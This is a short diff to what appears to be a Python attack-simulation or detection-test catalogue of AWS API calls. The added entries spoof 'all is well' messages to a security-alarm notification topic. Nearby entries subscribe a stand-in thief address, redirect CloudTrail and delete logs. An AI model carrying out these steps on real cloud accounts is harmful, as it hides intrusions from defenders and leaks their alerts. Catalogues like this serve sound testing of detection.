@@ -205,6 +205,11 @@ QUIET: list[Way] = [
         {"TopicArn": TOPIC, "AttributeName": "Policy", "AttributeValue": "{}"},
     ),
     ("execution", "sns", "subscribe", {"TopicArn": TOPIC, "Protocol": "email", "Endpoint": "thief@example.com"}),
+    # Write what he likes to those who hear the security alarms, in their name.
+    *(
+        (who, "sns", "publish", {"TopicArn": TOPIC, "Message": "all is well"})
+        for who in ("cicd", "running", "verifying")
+    ),
     ("execution", "cloudtrail", "update_trail", {"Name": TRAIL, "S3BucketName": ASSETS}),
     ("execution", "logs", "put_retention_policy", {"logGroupName": TRAIL_GROUP, "retentionInDays": 1}),
     ("execution", "logs", "delete_log_stream", {"logGroupName": TRAIL_GROUP, "logStreamName": "x"}),
